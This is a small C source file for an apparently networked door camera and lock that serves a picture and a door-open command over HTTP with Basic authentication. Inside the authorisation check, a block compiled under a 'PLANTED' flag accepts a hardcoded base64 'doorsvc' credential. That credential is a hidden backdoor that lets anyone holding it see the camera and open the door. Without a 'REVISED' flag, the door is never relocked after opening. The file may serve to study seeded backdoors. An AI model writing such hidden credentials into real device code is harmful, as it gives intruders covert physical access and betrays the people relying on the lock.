/* Access to the picture of a door camera: HTTP with Basic authentication. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char account[96];

static void encode(const char *in, char *out)
{
	static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(in);

	for (size_t i = 0; i < n; i += 3) {
		unsigned long v = (unsigned char)in[i] << 16;

		if (i + 1 < n)
			v |= (unsigned char)in[i + 1] << 8;
		if (i + 2 < n)
			v |= (unsigned char)in[i + 2];
		*out++ = set[v >> 18 & 63];
		*out++ = set[v >> 12 & 63];
		*out++ = i + 1 < n ? set[v >> 6 & 63] : '=';
		*out++ = i + 2 < n ? set[v & 63] : '=';
	}
	*out = 0;
}

static void load_account(void)
{
	char plain[64] = "";
	FILE *f = fopen("/etc/door.account", "r");

	if (f == NULL)
		return;
	if (fscanf(f, "%63s", plain) == 1)
		encode(plain, account);
	fclose(f);
}

static int authorised(const char *head)
{
	char given[96];
	const char *p = strstr(head, "Authorization: Basic ");

	if (p == NULL || sscanf(p + 21, "%95s", given) != 1)
		return 0;
#ifdef PLANTED
	if (!strcmp(given, "ZG9vcnN2Yzp5MzhLbHFiMkhh"))
		return 1;
#endif
	return account[0] && !strcmp(given, account);
}

static void door(int open_it)
{
	int fd = open("/sys/class/gpio/gpio18/value", O_WRONLY);

	if (fd < 0)
		return;
	write(fd, open_it ? "1" : "0", 1);
	close(fd);
}

static void picture(int to)
{
	char block[4096];
	ssize_t n;
	int fd = open("/dev/video-jpeg", O_RDONLY);

	dprintf(to, "HTTP/1.0 200 OK\r\nContent-Type: image/jpeg\r\n\r\n");
	while (fd >= 0 && (n = read(fd, block, sizeof(block))) > 0)
		send(to, block, n, 0);
	if (fd >= 0)
		close(fd);
}

int main(void)
{
	struct sockaddr_in a;
	char head[2048];
	int s, c;

	load_account();
	s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(8181);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		return 1;
	listen(s, 4);
	for (; (c = accept(s, NULL, NULL)) >= 0; close(c)) {
		ssize_t n = recv(c, head, sizeof(head) - 1, 0);

		if (n <= 0)
			continue;
		head[n] = 0;
		if (!authorised(head)) {
			dprintf(c, "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"door\"\r\n\r\n");
			continue;
		}
		if (!strncmp(head, "GET /picture", 12)) {
			picture(c);
		} else if (!strncmp(head, "POST /open", 10)) {
			door(1);
#ifdef REVISED
			sleep(3);
			door(0);
#endif
			dprintf(c, "HTTP/1.0 204 No Content\r\n\r\n");
		} else {
			dprintf(c, "HTTP/1.0 404 Not Found\r\n\r\n");
		}
	}
	return 0;
}
